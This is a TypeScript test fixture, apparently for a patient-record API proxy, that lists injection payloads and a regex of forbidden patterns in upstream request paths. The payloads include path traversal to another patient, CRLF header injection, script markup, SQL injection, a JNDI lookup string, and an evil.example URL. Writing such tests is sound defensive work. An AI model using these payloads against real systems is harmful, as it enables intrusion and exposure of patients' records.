// Values that try to change an upstream URL or header when they become part of one: dot segments,
// `?`, `#`, `%`, CR/LF, NUL, U+2028, bidi overrides, very long and non-ASCII digits (issue 15, 2).
export const INJECTION_VALUES: Array<[label: string, value: string]> = [
  ['a path to another patient', '../Patient/9000000017'],
  ['a query string', '9000000009?_summary=count'],
  ['a fragment', '9000000009#x'],
  ['an encoded slash and dot segment', '9000000009%2F..'],
  ['encoded dots', '%2e%2e'],
  ['a dot-dot segment', '..'],
  ['a single dot', '.'],
  ['CR/LF and a header', '9000000009\r\nX-Injected: 1'],
  ['a trailing LF', '9000000009\n'],
  ['a NUL', '9000000009\u0000'],
  ['U+2028', '9000000009\u2028'],
  ['a trailing slash', '9000000009/'],
  ['a leading space', ' 9000000009'],
  ['full-width digits', '\uff19\uff10\uff10\uff10\uff10\uff10\uff10\uff10\uff10\uff19'],
  ['a right-to-left override', '\u202e9000000009'],
  ['a tab', '9000000009\t'],
  ['markup', '<script>alert(1)</script>'],
  ['SQL', "' OR 1=1--"],
  ['a template lookup', '${jndi:ldap://x/a}'],
  ['an empty string', ''],
  ['10,000 characters', '9'.repeat(10_000)],
  ['an absolute URL', 'http://evil.example/'],
];

/** What must never appear in an upstream request path (the sandbox's log) after a hostile value. */
export const HOSTILE_IN_PATH =
  /(^|\/)\.\.?(\/|$)|%2e|%2f|_summary|#|\r|\n|\u0000|evil\.example|[^\x20-\x7e]/i;
